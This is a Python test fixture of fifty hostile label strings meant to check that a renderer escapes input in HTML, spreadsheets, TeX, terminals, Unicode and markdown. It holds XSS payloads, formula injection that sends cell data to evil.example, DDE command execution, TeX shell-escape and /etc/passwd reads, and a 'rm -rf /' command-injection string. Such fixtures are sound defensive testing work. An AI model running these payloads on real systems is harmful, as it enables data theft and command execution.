"""Fifty labels that mean harm to whatever shows them."""

HTML = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "</td></table><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    "<svg/onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(1)",
    "<a href='javascript:alert(1)'>here</a>",
    "<!-- --><![CDATA[<b>]]>",
    "&lt;script&gt;&#60;b&#62;",
    "{{ 7*7 }}{% for x in y %}{{ config }}",
    "<style>*{display:none}</style>",
)
SHEET = (
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "=IMPORTXML(CONCAT(\"http://evil.example/\",A1),\"//a\")",
)  # fmt: skip
TEX = (
    r"\input{/etc/passwd}",
    r"\write18{id}",
    r"\immediate\openin5=/etc/passwd",
    r"^^5cinput{x} \end{tabular}",
    r"$\frac{1}{$ $x_1$",
    "100 % & #1 _x_ ~ {it",
)
TERMINAL = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x1b[2J\x1b[H",
    "\x9b1m",
    "back\x08\x08\x08space",
    "bell\x07",
    "[bold red]markup[/bold red]",
    "%s %n {0} {x.__class__}",
)
INVISIBLE = (
    "abc\u202edcba",
    "\u2066isolate\u2069",
    "zero\u200bwidth\ufeff",
    "line\u2028separator",
)
MARKDOWN = (
    "two\nlines",
    "a | b || c",
    "`code` **bold** [link](http://evil.example)",
    "; rm -rf / #$(id) `id`",
    "../../etc/passwd",
)
LABELS = (*HTML, *SHEET, *TEX, *TERMINAL, *INVISIBLE, *MARKDOWN)
